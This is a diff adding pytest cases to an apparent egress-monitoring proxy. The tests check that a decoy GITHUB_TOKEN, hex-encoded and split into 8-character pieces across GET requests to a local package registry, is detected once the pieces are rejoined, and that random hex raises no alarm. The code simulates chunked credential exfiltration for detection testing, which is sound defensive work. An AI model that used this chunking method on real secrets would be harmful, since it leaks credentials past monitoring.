@@ -623,6 +623,51 @@ def test_dns_over_https_is_named_with_the_name_it_asked_and_searched(proxy: Prox
     assert "dns_name" not in page
 
 
+def _pieces_to_the_registry(proxy: Proxy, shape: str, data: str, size: int) -> list[dict[str, Any]]:
+    """GET the registry once per ``size`` characters of ``data``, placed as ``shape``
+    says; return the requests' log lines, in order."""
+    marker = tag()
+    base = f"http://localhost:{proxy.upstream.server_port}"
+    with session() as s:
+        for i in range(0, len(data), size):
+            piece = data[i : i + size]
+            url = shape.format(base=base, marker=marker, piece=piece)
+            s.get(url, proxies=proxy.proxies(LABELS[-1]), timeout=10)
+    proxy.wait_records(lambda r: marker in r["url"] and data[-size:] in r["url"])
+    return proxy.records(lambda r: marker in r["url"])
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        "{base}/simple/{piece}/?m={marker}",  # a package name a request
+        "{base}/search?q={piece}&page=1&m={marker}",  # a query string
+        "{base}/pypi/{marker}/{piece}/json",
+    ],
+    ids=["path", "query", "path-between-static"],
+)
+def test_a_decoy_in_pieces_to_a_registry_is_found_joined(proxy: Proxy, shape: str) -> None:
+    token = proxy.decoy("GITHUB_TOKEN").value.encode().hex()
+    records = _pieces_to_the_registry(proxy, shape, token, 8)
+    # No request holds a slice (8 hex characters each); the joined stream does.
+    hits = [r for r in records if r["decoy_seen"]]
+    assert hits, [r["url"] for r in records]
+    assert hits[0]["decoy_seen"] == ["GITHUB_TOKEN"]
+    assert "url:joined+hex" in hits[0]["decoy_where"]
+    assert all(r["action"] == "forwarded" for r in records)  # a registry read, forwarded
+    assert not any(r.get("dns_tunnel") for r in records)
+
+
+def test_random_pieces_and_hashed_file_paths_to_a_registry_carry_nothing(proxy: Proxy) -> None:
+    records = _pieces_to_the_registry(
+        proxy, "{base}/simple/{piece}/?m={marker}", secrets.token_hex(200), 8
+    )
+    records += _pieces_to_the_registry(
+        proxy, "{base}/packages/{piece}/pkg-1.0.tar.gz?m={marker}", secrets.token_hex(640), 64
+    )
+    assert not [r for r in records if r["decoy_seen"] or r.get("dns_tunnel")]
+
+
 @pytest.mark.parametrize("method", ["PUT", "POST"])
 def test_a_write_to_a_registry_is_answered_here_never_forwarded(proxy: Proxy, method: str) -> None:
     # What `npm publish` does with a stolen token: the tarball is base64 in a JSON body.
